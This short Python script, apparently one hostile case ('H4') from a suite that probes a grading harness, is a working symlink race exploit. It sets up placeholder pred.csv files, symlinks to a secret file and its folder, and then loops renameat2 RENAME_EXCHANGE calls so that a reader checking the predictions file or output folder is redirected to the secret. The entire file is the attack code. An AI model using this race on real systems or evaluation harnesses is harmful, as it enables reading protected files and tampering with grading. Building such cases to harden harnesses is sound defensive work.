"""H4: a file that is a link whenever somebody opens it, and a folder that leads elsewhere."""

import ctypes
import os
import time

from attempt import target

libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2
secret = target("SECRET")
os.makedirs("out")
with open("out/pred.csv", "w") as file:
    file.write("0.5\n")
with open("pred.csv", "w") as file:
    file.write("0.5\n")
os.symlink(secret, "link")
os.symlink(os.path.dirname(secret), "elsewhere")
print("swapping", flush=True)
end = time.monotonic() + 3
while time.monotonic() < end:
    libc.renameat2(-100, b"pred.csv", -100, b"link", EXCHANGE)
    libc.renameat2(-100, b"out", -100, b"elsewhere", EXCHANGE)
